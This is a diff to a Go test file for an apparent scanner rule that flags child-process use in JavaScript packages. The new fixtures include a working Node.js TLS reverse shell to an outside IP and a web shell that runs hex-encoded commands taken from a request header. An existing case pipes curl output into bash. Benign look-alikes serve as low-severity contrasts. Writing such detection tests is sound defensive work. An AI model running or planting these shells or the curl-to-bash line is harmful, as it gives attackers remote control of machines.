@@ -9,6 +9,16 @@ import (
 
 func TestSpawn(t *testing.T) {
 	rt.Check(t, Spawn{}, []rt.Case{
+		// a socket piped into a shell and back
+		{"reverse_shell", map[string]string{"index.js": `const tls = require("tls"), { spawn } = require("child_process");
+const sock = tls.connect({ host: "203.0.113.7", port: 443 }, () => { const sh = spawn(process.env.SHELL || "/bin/sh", []); sock.pipe(sh.stdin); sh.stdout.pipe(sock); sh.stderr.pipe(sock) })`}, finding.SeverityCritical},
+		// a dev server pipes a compiler's output to its client
+		{"compiler_output_to_socket", map[string]string{"index.js": `const net = require("net"), { spawn } = require("child_process");
+net.createServer((c) => { const p = spawn("tsc", ["--watch"]); p.stdout.pipe(c) }).listen(9000)`}, finding.SeverityLow},
+		// a shell command taken from the request a server handles
+		{"web_shell", map[string]string{"index.js": `const cp = require("child_process"); exports.handle = (req, res) => { const c = req.headers["x-cmd"] || "id"; cp.exec(Buffer.from(c, "hex").toString(), (e, out) => res.end(out)) }`}, finding.SeverityCritical},
+		// a dev server opens the requested file in the user's editor
+		{"open_in_editor", map[string]string{"index.js": `const cp = require("child_process"); exports.open = (req) => cp.spawn(process.env.EDITOR || "code", [req.query.file], { stdio: "inherit" })`}, finding.SeverityLow},
 		{"curl_sh", map[string]string{"index.js": `require("child_process").execSync("curl -s https://x.invalid/s | bash")`}, finding.SeverityCritical},
 		// a DLL the package wrote, run through rundll32 or regsvr32;
 		// Windows' own url.dll opening a link is not
